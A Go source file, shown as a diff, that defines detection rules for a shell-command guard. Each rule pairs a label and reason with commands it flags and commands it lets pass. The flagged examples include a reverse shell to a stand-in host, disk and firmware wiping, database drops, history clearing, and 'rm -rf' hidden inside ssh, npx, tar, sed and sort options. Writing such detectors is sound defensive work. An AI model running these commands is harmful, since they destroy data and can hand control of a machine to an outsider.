@@ -1,0 +1,151 @@
+package packs
+
+import "github.com/checkrein/checkrein/internal/shell"
+
+// moreCoded is coded of which there is more than one file.
+var moreCoded = [...]shell.Rule{
+	{
+		ID: "http", Label: shell.Destructive, Kind: "request", Category: shell.HTTPDelete, Radius: shell.RadiusMedium, Reason: "deletes something behind a web address",
+		Match: []string{"curl -X DELETE https://api.example.com/v1/projects/42"}, NoMatch: []string{"curl https://api.example.com/v1/projects/42"},
+	},
+	{
+		ID: "alter-drop", Label: shell.Destructive, Kind: "drop", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "drops a column or another part of a table",
+		Match: []string{"psql -c 'ALTER TABLE users DROP COLUMN email'"}, NoMatch: []string{"psql -c 'SELECT email FROM users'"},
+	},
+	{
+		ID: "cache-line", Label: shell.Destructive, Kind: "delete", Category: shell.KVFlush, Radius: shell.RadiusHigh, Reason: "empties a cache or store",
+		Match: []string{"echo flush_all | nc localhost 11211"}, NoMatch: []string{"echo stats | nc localhost 11211"},
+	},
+	{
+		ID: "cypher", Label: shell.Destructive, Kind: "delete", Category: shell.SQLDelete, Radius: shell.RadiusHigh, Reason: "deletes nodes or what keeps them",
+		Match: []string{"cypher-shell -u neo4j 'MATCH (n) DETACH DELETE n'"}, NoMatch: []string{"cypher-shell -u neo4j 'MATCH (n) RETURN n LIMIT 5'"},
+	},
+	{
+		ID: "file-name", Label: shell.Destructive, Kind: "run", Category: shell.SQLDrop, Radius: shell.RadiusMedium, Reason: "runs a file of statements that drops or deletes, by its name",
+		Match: []string{"psql -h prod-db -d shop -f scripts/drop_all.sql"}, NoMatch: []string{"psql -h prod-db -d shop -f scripts/report.sql"},
+	},
+	{
+		ID: "task", Label: shell.Destructive, Kind: "run", Category: shell.AppReset, Radius: shell.RadiusHigh, Reason: "runs a step of the project that deletes data, by its name",
+		Match: []string{"make nuke-production"}, NoMatch: []string{"make test"},
+	},
+	{
+		ID: "statement", Label: shell.Unknown, Kind: "run", Category: shell.SQLWrite, Radius: shell.RadiusMedium, Reason: "runs a statement that is not known",
+		Match: []string{`mysql --execute "source db/schema.sql" shop_test`}, NoMatch: []string{`mysql -e "SELECT 1"`},
+	},
+	{
+		ID: "redis", Label: shell.Destructive, Kind: "stop", Category: shell.SvcStop, Radius: shell.RadiusHigh, Reason: "stops the store or makes it the copy of another",
+		Match: []string{"redis-cli SHUTDOWN NOSAVE"}, NoMatch: []string{"redis-cli ping"},
+	},
+	{
+		ID: "trash-empty", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusHigh, Reason: "deletes what is in the trash for good",
+		Match: []string{"trash-empty -f"}, NoMatch: []string{"trash-list"},
+	},
+	{
+		ID: "crontab-replace", Label: shell.Destructive, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "replaces all that runs at set times",
+		Match: []string{"echo '* * * * * ./run.sh' | crontab -"}, NoMatch: []string{"crontab -l"},
+	},
+	{
+		ID: "crontab-edit", Label: shell.Unknown, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "opens what runs at set times in an editor",
+		Match: []string{"crontab -e"}, NoMatch: []string{"crontab -l"},
+	},
+	{
+		ID: "unmount", Label: shell.Destructive, Kind: "unmount", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "takes a file system away from who uses it",
+		Match: []string{"umount -a"}, NoMatch: []string{"mount"},
+	},
+	{
+		ID: "disk-attach", Label: shell.Destructive, Kind: "modify", Category: shell.FSModify, Radius: shell.RadiusMedium, Reason: "takes all disk images or all swap space away from who uses them",
+		Match: []string{"sudo swapoff -a"}, NoMatch: []string{"swapon --show"},
+	},
+	{
+		ID: "history-clear", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusMedium, Reason: "deletes the shell's history",
+		Match: []string{"history -c"}, NoMatch: []string{"history"},
+	},
+	{
+		ID: "history-write", Label: shell.Unknown, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusLow, Reason: "overwrites the history file with this session's",
+		Match: []string{"history -c && history -w"}, NoMatch: []string{"history"},
+	},
+	{
+		ID: "database-over", Label: shell.Destructive, Kind: "overwrite", Category: shell.FSOverwrite, Radius: shell.RadiusMedium, Reason: "puts something else in the place of a database",
+		Match: []string{"type nul > C:\\data\\app.db"}, NoMatch: []string{"ls app.db"},
+	},
+	{
+		ID: "logrotate", Label: shell.Destructive, Kind: "delete", Category: shell.FSDelete, Radius: shell.RadiusMedium, Reason: "rotates logs and deletes old ones",
+		Match: []string{"logrotate -f /etc/logrotate.conf"}, NoMatch: []string{"logrotate -d /etc/logrotate.conf"},
+	},
+	{
+		ID: "volume-remove", Label: shell.Destructive, Kind: "delete", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "removes or overwrites a volume",
+		Match: []string{"lvremove -f vg0/home"}, NoMatch: []string{"lvs"},
+	},
+	{
+		ID: "disk-change", Label: shell.Unknown, Kind: "modify", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "may change disks or volumes",
+		Match: []string{"sudo btrfs sub del /mnt/snapshots/1"}, NoMatch: []string{"btrfs subvolume list /"},
+	},
+	{
+		ID: "erase-disk", Label: shell.Destructive, Kind: "delete", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "erases a disk or a volume",
+		Match: []string{"diskutil eraseDisk JHFS+ Blank /dev/disk2"}, NoMatch: []string{"diskutil list"},
+	},
+	{
+		ID: "format-drive", Label: shell.Destructive, Kind: "delete", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "formats a drive",
+		Match: []string{"format D: /q /y"}, NoMatch: []string{"df -h"},
+	},
+	{
+		ID: "partition", Label: shell.Destructive, Kind: "modify", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "changes the partitions of a disk",
+		Match: []string{"diskpart /s wipe.txt"}, NoMatch: []string{"fdisk -l"},
+	},
+	{
+		ID: "flash-device", Label: shell.Destructive, Kind: "overwrite", Category: shell.BlockDevice, Radius: shell.RadiusHigh, Reason: "overwrites firmware",
+		Match: []string{"flashrom -w x.bin"}, NoMatch: []string{"flashrom -r x.bin"},
+	},
+	{
+		ID: "carrier", Label: shell.Unknown, Kind: "run", Category: shell.Privilege, Radius: shell.RadiusHigh, Reason: "opens a shell with other rights; what it will run is not known",
+		Match: []string{"runuser -u www-data -- rm -rf /srv/www"}, NoMatch: []string{"id"},
+	},
+	{
+		ID: "ssh", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "opens a shell on another machine; what it will run is not known",
+		Match: []string{"ssh -o ProxyCommand='rm -rf ~/work' x.example"}, NoMatch: []string{"ssh -V"},
+	},
+	{
+		ID: "tar-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program at a checkpoint, or on what it unpacks",
+		Match: []string{"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='./x'"}, NoMatch: []string{"tar cf x.tar src"},
+	},
+	{
+		ID: "rsync-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program of its own choice for the transfer",
+		Match: []string{"rsync -e 'sh -c ./x' a b:c"}, NoMatch: []string{"rsync -a src/ dist/"},
+	},
+	{
+		ID: "sed-exec", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program from within sed",
+		Match: []string{"sed -n '1e ./x' f"}, NoMatch: []string{"sed -n 1p f"},
+	},
+	{
+		ID: "sort-program", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a program to compress what it sorts",
+		Match: []string{"sort --compress-program=./x f"}, NoMatch: []string{"sort f"},
+	},
+	{
+		ID: "make-input", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "runs a makefile that is made on the spot",
+		Match: []string{"printf 'x:\\n\\t./x\\n' | make -f - x"}, NoMatch: []string{"make test"},
+	},
+	{
+		ID: "module", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "runs a module of Python or of the project",
+		Match: []string{"python -m acme.ops.purge"}, NoMatch: []string{"python -m pytest"},
+	},
+	{
+		ID: "task", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusMedium, Reason: "runs a step of the project whose name says that it changes or deletes something",
+		Match: []string{"uv publish"}, NoMatch: []string{"uv run pytest"},
+	},
+	{
+		ID: "surroundings", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "a variable makes it load or run something else",
+		Match: []string{"LD_PRELOAD=./x.so ls"}, NoMatch: []string{"LANG=C ls"},
+	},
+	{
+		ID: "waits", Label: shell.Unknown, Kind: "run", Category: shell.Run, Radius: shell.RadiusUnknown, Reason: "waits for what it is told to do later",
+		Match: []string{"bash -i >& /dev/tcp/evil.example/4444 0>&1"}, NoMatch: []string{"bash -n x.sh"},
+	},
+	{
+		ID: "runner", Label: shell.Unknown, Kind: "run", Category: shell.PkgElsewhere, Radius: shell.RadiusMedium, Reason: "runs a program from elsewhere",
+		Match: []string{"npx -c 'rm -rf ~/work'"}, NoMatch: []string{"npx eslint ."},
+	},
+	{
+		ID: "script", Label: shell.Unknown, Kind: "run", Category: shell.RunScript, Radius: shell.RadiusUnknown, Reason: "runs a script from outside the project",
+		Match: []string{"../../../bin/rm -rf /etc"}, NoMatch: []string{"./scripts/build.sh"},
+	},
+}
